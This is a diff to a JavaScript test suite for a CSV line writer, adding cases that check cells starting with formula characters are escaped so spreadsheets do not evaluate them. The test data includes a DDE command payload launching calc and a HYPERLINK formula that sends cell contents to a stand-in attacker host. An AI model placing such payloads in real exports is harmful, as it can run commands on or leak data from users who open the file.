@@ -15,6 +15,11 @@ describe('a line', () => {
     ['\tx', "'\tx"],
     ['\rx', `"'\rx"`],
     ['＝1', "'＝1"],
+    [' =1', "' =1"],
+    [";=cmd|' /C calc'!A0;", `";'=cmd|' /C calc'!A0;"`],
+    ['a;+1', `"a;'+1"`],
+    ['a "=1"', `"a ""'=1"""`],
+    ['9–17; up-to-date', '"9–17; up-to-date"'],
     ['=HYPERLINK("https://evil.test?"&A1,"x")', `"'=HYPERLINK(""https://evil.test?""&A1,""x"")"`],
     ['قناة', 'قناة'],
   ])('writes %j so that no spreadsheet takes it for a formula', (cell, written) => {
@@ -28,7 +33,7 @@ describe('a line', () => {
   });
 
   test('is read back as it was, whatever it holds', () => {
-    const cell = fc.string({ unit: 'grapheme' }).filter((text) => !/^[=+\-@\t\r\n＝＋－＠]/.test(text));
+    const cell = fc.string({ unit: 'grapheme' }).filter((text) => !/[=+\-@＝＋－＠]|^[\t\r\n]/.test(text));
     fc.assert(
       fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 4 }), { maxLength: 5 }), (rows) => {
         const read = readRecords(rows.map(writeLine).join(''));
